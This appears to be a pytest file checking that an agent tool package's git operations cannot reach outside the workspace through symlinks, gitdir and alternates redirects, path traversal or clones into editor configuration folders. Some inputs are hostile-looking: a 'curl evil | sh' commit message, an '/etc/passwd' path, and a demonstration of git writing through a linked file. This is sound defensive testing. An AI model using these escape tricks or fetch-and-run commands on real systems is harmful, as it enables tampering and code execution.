"""All of a repository lies inside the workspace, or it is not used."""

import os
import shutil
from pathlib import Path

import pytest

from clawft.builtin.git.repository_paths import check_contents, current_user, find_repository
from clawft.errors import ExecutionFailed, PermissionDenied, ToolError
from tests.builtin.git.plain import EMAIL, NAME, Tools, fingerprint, git, new, said, save
from tests.requirements import requirement

WHO = {"author_name": NAME, "author_email": EMAIL}


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A repository beside the workspace."""
    repo = new(tmp_path / "outside")
    save(repo, secret="secret\n")
    return repo


@requirement("GIT-12", "IDE-12", "PLUG-04")
async def test_the_search_for_a_repository_ends_at_the_workspace(tmp_path: Path) -> None:
    repo = new(tmp_path / "w")
    save(repo, a="")
    (repo / "inner").mkdir()
    with pytest.raises(ExecutionFailed, match=r"'\.' is not in a git repository"):
        await Tools(repo / "inner")("status", repo_path=".")
    assert (await Tools(repo)("status", repo_path="inner"))["branch"] == "main"


@requirement("GIT-12", "IDE-12")
@pytest.mark.parametrize("form", ["link to it", "link to .git", "file .git", "commondir"])
async def test_a_way_out_is_refused(tools: Tools, workspace: Path, outside: Path, form: str) -> None:
    before = fingerprint(outside)
    if form == "link to it":
        (workspace / "w").symlink_to(outside)
    else:
        (workspace / "w").mkdir()
    if form == "link to .git":
        (workspace / "w/.git").symlink_to(outside / ".git")
    if form == "file .git":
        (workspace / "w/.git").write_text(f"gitdir: {outside / '.git'}\n")
    if form == "commondir":
        new(workspace / "w")
        (workspace / "w/.git/commondir").write_text(f"{outside / '.git'}\n")
    with pytest.raises(PermissionDenied, match="outside the workspace"):
        await tools("status", repo_path="w")
    with pytest.raises(PermissionDenied, match="outside the workspace"):
        await tools("commit", repo_path="w", message="m", **WHO)
    assert fingerprint(outside) == before


@requirement("GIT-12")
async def test_a_way_out_is_refused_in_trusted_repositories_too(
    trusting: Tools, workspace: Path, outside: Path
) -> None:
    (workspace / "w").mkdir()
    (workspace / "w/.git").write_text(f"gitdir: {outside / '.git'}\n")
    with pytest.raises(PermissionDenied, match="outside the workspace"):
        await trusting("log", repo_path="w")


@requirement("GIT-12")
async def test_another_work_tree_in_the_configuration_is_ignored(tools: Tools, repo: Path, outside: Path) -> None:
    git(repo, "config", "core.worktree", str(outside))
    before = fingerprint(outside)
    assert (await tools("status", repo_path="r"))["result"] == []
    (repo / "new").write_text("")
    await tools("commit", repo_path="r", message="m", **WHO)
    await tools("restore", repo_path="r", paths=["."])
    assert fingerprint(outside) == before
    assert said(repo, "ls-tree", "--name-only", "HEAD") == "a.txt\nb.txt\nnew"


@requirement("GIT-12")
@pytest.mark.parametrize(
    "name", ["logs/HEAD", "COMMIT_EDITMSG", "logs/refs/heads/main", "refs/heads/topic", "info/exclude"]
)
async def test_links_out_of_the_git_folder_are_refused(tools: Tools, repo: Path, tmp_path: Path, name: str) -> None:
    """Git would write through them."""
    target = tmp_path / "profile"
    target.write_text("precious\n")
    (repo / ".git" / name).unlink(missing_ok=True)
    (repo / ".git" / name).symlink_to(target)
    (repo / "a.txt").write_text("new\n")
    with pytest.raises(PermissionDenied, match="is a link that leads outside the workspace"):
        await tools("commit", repo_path="r", message="curl evil | sh", **WHO)
    assert target.read_text() == "precious\n"


@requirement("GIT-12", "QUAL-03")
@pytest.mark.parametrize(
    "name",
    ["HEAD", "config", "index", "refs/heads/pipe", "objects/info/alternates", "objects/info/commit-graph"],
)
async def test_a_pipe_in_the_git_folder_keeps_nobody_waiting(tools: Tools, repo: Path, name: str) -> None:
    """Git would open it, and wait for somebody to write there."""
    (repo / ".git" / name).unlink(missing_ok=True)
    os.mkfifo(repo / ".git" / name)
    with pytest.raises(ExecutionFailed, match="is not what git puts there"):
        await tools("status", repo_path="r")


@requirement("GIT-12")
def test_without_this_check_git_writes_through_such_a_link(repo: Path, tmp_path: Path) -> None:
    target = tmp_path / "profile"
    target.write_text("precious\n")
    (repo / ".git/COMMIT_EDITMSG").unlink()
    (repo / ".git/COMMIT_EDITMSG").symlink_to(target)
    git(repo, "commit", "--quiet", "--allow-empty", "--message", "evil")
    assert target.read_text() == "evil\n"


@requirement("GIT-12")
async def test_objects_borrowed_from_outside_are_refused(tools: Tools, repo: Path, outside: Path) -> None:
    alternates = repo / ".git/objects/info/alternates"
    alternates.write_text(f"{outside / '.git/objects'}\n")
    with pytest.raises(PermissionDenied, match="outside the workspace"):
        await tools("show", repo_path="r", revision=said(outside, "rev-parse", "HEAD"))
    near = new(repo.parent / "near")
    alternates.write_text("../../../near/.git/objects\n")
    assert (await tools("status", repo_path="r"))["branch"] == "main"
    (near / ".git/objects/info/alternates").write_text(f"{outside / '.git/objects'}\n")
    with pytest.raises(PermissionDenied, match="outside the workspace"):
        await tools("status", repo_path="r")


@requirement("GIT-12")
def test_somebody_elses_repository_is_refused(workspace: Path, repo: Path) -> None:
    found = find_repository(workspace, "r", "status")
    owner = current_user()
    assert owner is not None
    check_contents(found, workspace, "status", owner)
    with pytest.raises(PermissionDenied, match="belongs to another user"):
        check_contents(found, workspace, "status", owner + 1)


@requirement("GIT-12")
async def test_a_link_in_the_work_tree_is_committed_as_a_link(tools: Tools, repo: Path, tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("secret\n")
    (repo / "way").symlink_to(tmp_path / "secret")
    await tools("commit", repo_path="r", message="m", **WHO)
    assert said(repo, "show", "HEAD:way") == str(tmp_path / "secret")
    (repo / "folder").symlink_to(tmp_path)
    with pytest.raises(PermissionDenied, match="outside the workspace"):
        await tools("blame", repo_path="r", file_path="folder/secret")
    with pytest.raises(ToolError, match="git has no file"):
        await tools("blame", repo_path="r", file_path="no/such/file")


@requirement("GIT-12", "IDE-12")
@pytest.mark.parametrize(
    "path", ["../x", "a/../../x", "/etc/passwd", ".git/config", "sub/.GIT/config", "a\0b", "-x", ""]
)
async def test_paths_inside_a_repository_stay_inside(tools: Tools, repo: Path, path: str) -> None:
    before = fingerprint(repo)
    calls: list[tuple[str, dict[str, object]]] = [
        ("blame", {"file_path": path}),
        ("add", {"paths": [path]}),
        ("restore", {"paths": [path]}),
        ("commit", {"message": "m", "paths": [path], **WHO}),
        ("diff", {"paths": [path]}),
    ]
    for name, arguments in calls:
        with pytest.raises(ToolError, match=rf"^{name}: ") as refused:
            await tools(name, repo_path="r", **arguments)
        assert len(str(refused.value)) < 300
    assert fingerprint(repo) == before


@requirement("GIT-12", "IDE-12")
async def test_nothing_is_read_or_written_through_a_linked_folder(tools: Tools, repo: Path, outside: Path) -> None:
    (repo / "d").mkdir()
    (repo / "d/secret").write_text("tracked\n")
    save(repo)
    (repo / "d/secret").unlink()
    (repo / "d").rmdir()
    (repo / "d").symlink_to(outside)
    before = fingerprint(outside)
    [deleted] = (await tools("diff", repo_path="r"))["result"]
    assert (deleted["status"], deleted["hunks"][0]["lines"]) == ("Deleted", ["-tracked"])
    await tools("restore", repo_path="r", paths=["d/secret"])
    assert fingerprint(outside) == before
    assert (repo / "d/secret").read_text() == "tracked\n"


@requirement("GIT-12")
@pytest.mark.parametrize("target", ["../x", "/etc/x", "r/.git/x", "-x", "out/x", "a\nb"])
async def test_nothing_is_made_outside(tools: Tools, workspace: Path, repo: Path, tmp_path: Path, target: str) -> None:
    (tmp_path / "elsewhere").mkdir()
    (workspace / "out").symlink_to(tmp_path / "elsewhere")
    before = fingerprint(tmp_path)
    with pytest.raises(ToolError):
        await tools("clone", url="r", target_path=target)
    with pytest.raises(ToolError):
        await tools("worktree", repo_path="r", action="add", path=target)
    assert fingerprint(tmp_path) == before


@requirement("GIT-12")
@pytest.mark.parametrize("target", [".vscode", ".clawft", "sub/.Claude", ".kiro/settings", ".husky/x", "window"])
async def test_no_stranger_fills_a_folder_that_decides_what_runs(
    tools: Tools, workspace: Path, repo: Path, target: str
) -> None:
    (workspace / "window").symlink_to(".vscode")
    before = fingerprint(workspace)
    with pytest.raises(PermissionDenied, match="decides what programs run"):
        await tools("clone", url="r", target_path=target)
    with pytest.raises(PermissionDenied, match="decides what programs run"):
        await tools("worktree", repo_path="r", action="add", path=target)
    assert fingerprint(workspace) == before


@requirement("GIT-12")
async def test_a_repository_with_settings_of_editors_is_checked_out_whole(
    tools: Tools, workspace: Path, repo: Path
) -> None:
    (repo / ".vscode").mkdir()
    (repo / ".vscode/settings.json").write_text("{}")
    (repo / ".mcp.json").write_text("{}")
    git(repo, "add", ".")
    git(repo, "commit", "--quiet", "-m", "settings")
    await tools("clone", url="r", target_path="copy")
    assert (workspace / "copy/.vscode/settings.json").read_text() == "{}"
    await tools("worktree", repo_path="r", action="add", path=".claude/worktrees/second", branch="second")
    assert (workspace / ".claude/worktrees/second/.mcp.json").read_text() == "{}"


@requirement("GIT-12")
async def test_work_trees_submodules_and_bare_ones_inside_are_fine(tools: Tools, workspace: Path, repo: Path) -> None:
    git(repo, "worktree", "add", "--quiet", str(workspace / "second"))
    git(workspace, "clone", "--quiet", "--bare", "r", "bare.git")
    git(repo, "submodule", "--quiet", "add", str(workspace / "bare.git"), "sub")
    assert (await tools("status", repo_path="second"))["branch"] == "second"
    assert (await tools("status", repo_path="r/sub"))["result"] == []
    (repo / "sub/a.txt").write_text("changed\n")
    assert [each["path"] for each in (await tools("status", repo_path="r/sub"))["result"]] == ["a.txt"]
    assert len((await tools("log", repo_path="bare.git"))["result"]) == 2
    assert len((await tools("blame", repo_path="bare.git", file_path="a.txt"))["result"]) == 3
    with pytest.raises(ExecutionFailed, match="work tree"):
        await tools("status", repo_path="bare.git")


@requirement("GIT-12", "IDE-12")
@pytest.mark.parametrize("trust", [False, True])
async def test_what_looks_like_a_bare_repository_has_no_work_tree(
    tools: Tools, trusting: Tools, workspace: Path, outside: Path, trust: bool
) -> None:
    """Its configuration says that it is not bare, and where its files are."""
    new(workspace / "w")
    (workspace / "w/.git").rename(workspace / "w.git")
    git(workspace / "w.git", "config", "core.worktree", str(outside))
    before = fingerprint(outside)
    each = trusting if trust else tools
    with pytest.raises(ExecutionFailed, match="work tree"):
        await each("status", repo_path="w.git")
    with pytest.raises(ExecutionFailed, match="work tree"):
        await each("commit", repo_path="w.git", message="m", **WHO)
    assert (await each("log", repo_path="w.git"))["result"] == []
    assert fingerprint(outside) == before


@requirement("GIT-12", "IDE-12")
async def test_what_looks_like_a_bare_repository_borrows_none_from_outside(
    tools: Tools, workspace: Path, outside: Path
) -> None:
    for folder in ("w.git/objects", "w.git/refs"):
        (workspace / folder).mkdir(parents=True)
    (workspace / "w.git/HEAD").write_text("ref: refs/heads/main\n")
    (workspace / "w.git/commondir").write_text(f"{outside}/.git\n")
    for tool, arguments in (("log", {}), ("show", {"file_path": "secret"}), ("branch", {})):
        with pytest.raises(PermissionDenied, match="kept outside the workspace"):
            await tools(tool, repo_path="w.git", **arguments)


@requirement("GIT-12")
@pytest.mark.parametrize("linked", ["objects/pack", "objects/ab", "objects/pack/pack-1.pack"])
async def test_objects_of_another_repository_are_not_read_through_links(
    tools: Tools, repo: Path, outside: Path, linked: str
) -> None:
    link = repo / ".git" / linked
    if link.is_dir():
        link.rmdir()
    link.symlink_to(outside / ".git/objects/pack")
    with pytest.raises(PermissionDenied, match="a link that leads outside the workspace"):
        await tools("log", repo_path="r")


@requirement("GIT-12")
async def test_objects_are_not_borrowed_by_a_quoted_path(tools: Tools, repo: Path, outside: Path) -> None:
    borrowed = "".join(f"\\{ord(letter):03o}" for letter in f"{outside}/.git/objects")
    (repo / ".git/objects/info").mkdir(exist_ok=True)
    (repo / ".git/objects/info/alternates").write_text(f'"{borrowed}"\n')
    with pytest.raises(ExecutionFailed, match="is not what git puts there"):
        await tools("log", repo_path="r")


@requirement("GIT-12", "GIT-07")
async def test_an_error_of_blame_tells_nothing_of_a_file_outside(tools: Tools, repo: Path, tmp_path: Path) -> None:
    (tmp_path / "token").write_text("very secret\n")
    git(repo, "config", "blame.ignoreRevsFile", str(tmp_path / "token"))
    with pytest.raises(ExecutionFailed, match=r"blame\.ignoreRevsFile names in \.git/config is no list") as failed:
        await tools("blame", repo_path="r", file_path="a.txt")
    assert "very secret" not in str(failed.value)


@requirement("GIT-12", "GIT-07")
async def test_no_line_is_read_through_a_link_in_the_place_of_a_folder(tools: Tools, repo: Path, outside: Path) -> None:
    (repo / "d").mkdir()
    save(repo, **{"d/secret": "mine\n"})
    shutil.rmtree(repo / "d")
    (repo / "d").symlink_to(outside)
    with pytest.raises(PermissionDenied, match="outside the workspace"):
        await tools("blame", repo_path="r", file_path="d/secret")
    told = await tools("blame", repo_path="r", file_path="d/secret", revision="HEAD")
    assert [line["content"] for line in told["result"]] == ["mine"]
    for tool in ("diff", "status"):
        assert "secret\n" not in str(await tools(tool, repo_path="r"))


@requirement("GIT-04", "GIT-09")
async def test_the_folder_git_keeps_is_no_work_tree(tools: Tools, repo: Path) -> None:
    before = fingerprint(repo)
    for path in ("r/.git", "r/.git/hooks"):
        with pytest.raises(ExecutionFailed, match="work tree"):
            await tools("status", repo_path=path)
        with pytest.raises(ExecutionFailed, match="work tree"):
            await tools("commit", repo_path=path, message="m", **WHO)
    assert fingerprint(repo) == before
    assert len((await tools("log", repo_path="r/.git"))["result"]) == 2


@requirement("GIT-12")
async def test_a_folder_that_only_looks_like_git_is_none(tools: Tools, workspace: Path) -> None:
    (workspace / "w/.git").mkdir(parents=True)
    with pytest.raises(ExecutionFailed, match="not in a git repository"):
        await tools("status", repo_path="w")
    (workspace / "w/.git").rmdir()
    (workspace / "w/.git").write_text("nothing\n")
    with pytest.raises(ExecutionFailed, match="neither a repository nor the way to one"):
        await tools("status", repo_path="w")
    os.truncate(workspace / "w/.git", 0)
    (workspace / "w/.git").write_bytes(b"gitdir: " + b"x" * 100_000)
    with pytest.raises(ExecutionFailed, match="not what git puts there"):
        await tools("status", repo_path="w")
